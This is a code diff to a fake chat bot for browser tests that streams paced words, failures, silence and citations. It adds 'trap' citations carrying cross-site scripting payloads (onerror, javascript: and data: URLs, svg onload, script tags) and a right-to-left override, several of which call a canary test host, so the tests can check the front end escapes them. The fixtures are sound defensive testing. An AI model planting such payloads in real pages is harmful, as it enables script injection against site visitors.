@@ -1,23 +1,64 @@
-"""A bot for the browser tests: it speaks slowly, fails or keeps silent, as the question asks."""
+"""A bot for the browser tests: it speaks slowly, fails, keeps silent or is hostile, as the question asks."""
 
 from __future__ import annotations
 
-import time
+import re
 from collections.abc import Iterator
 
-from app.ports import StopSignal
+from app.ports import Citation, Cited, StopSignal
+
+MARK = "canary.example.test"
+"""The host that hostile texts point to: a request to it, or a script that speaks of it, is a break-in."""
+SOURCES = (
+    Citation("<img src=x onerror=window.pwned=1>", "javascript:window.pwned=2", "<script>window.pwned=3</script>"),
+    Citation("Data", f"data:text/html,<script src=//{MARK}></script>", "![a](https://canary.example.test/a.png)"),
+    Citation("Honest & \u202egninraw", f"https://{MARK}/page?a=1&b=2#part", f'<svg onload=import("//{MARK}")>'),
+)
+GOOD = (
+    Citation("First page", "https://pages.example.test/first#part", "A passage of the first page."),
+    Citation("Second page", "https://pages.example.test/second", "A passage of the second page."),
+)
+PROSE = (
+    "Baton keeps a conversation for one day. After that Redis forgets it by itself. "
+    "Nobody has to sweep. A visitor may end it sooner, and may delete it. The text then goes at once."
+)
 
 
-def answer(question: str, stop: StopSignal) -> Iterator[str]:
-    """``fail`` breaks off, ``silent`` says nothing for 30 s, ``long`` says 120 words in 6 s; else 30 words in 1.5 s."""
+def answer(question: str, stop: StopSignal) -> Iterator[str | Cited]:
+    """``fail`` breaks off, ``silent`` says nothing for 30 s, ``long`` says 120 words in 6 s; else 30 words in 1.5 s.
+
+    ``quick`` answers at once, ``say:`` says the rest one character at a time, ``prose`` a few sentences word by word,
+    ``sources`` names two pages, ``traps`` hostile ones, ``words=60 pace=0.1`` that many words, so many seconds apart.
+    """
     if "silent" in question:
         stop.wait(30)
-        return
-    for number in range(120 if "long" in question else 30):
-        yield f"w{number} "
-        if "fail" in question and number == 3:
+    elif "say:" in question:
+        yield from question.partition("say:")[2]
+    elif "quick" in question:
+        yield "A quick answer."
+    elif "prose" in question:
+        yield from _paced(PROSE.split(" "), 0.03, stop)
+    elif "sources" in question or "traps" in question:
+        yield "As the pages say [1] [2]."
+        yield Cited(GOOD if "sources" in question else SOURCES)
+    else:
+        yield from _counted(question, stop)
+
+
+def _counted(question: str, stop: StopSignal) -> Iterator[str]:
+    asked = dict(re.findall(r"(words|pace)=([0-9.]+)", question))
+    number = int(asked.get("words") or (120 if "long" in question else 30))
+    for word in _paced([f"w{n}" for n in range(number)], float(asked.get("pace") or 0.05), stop):
+        yield word
+        if "fail" in question and word == "w3 ":
             raise RuntimeError("as asked")
-        time.sleep(0.05)
+
+
+def _paced(words: list[str], seconds: float, stop: StopSignal) -> Iterator[str]:
+    for word in words:
+        yield f"{word} "
+        if stop.wait(seconds):
+            return
 
 
 def words(number: int) -> str:
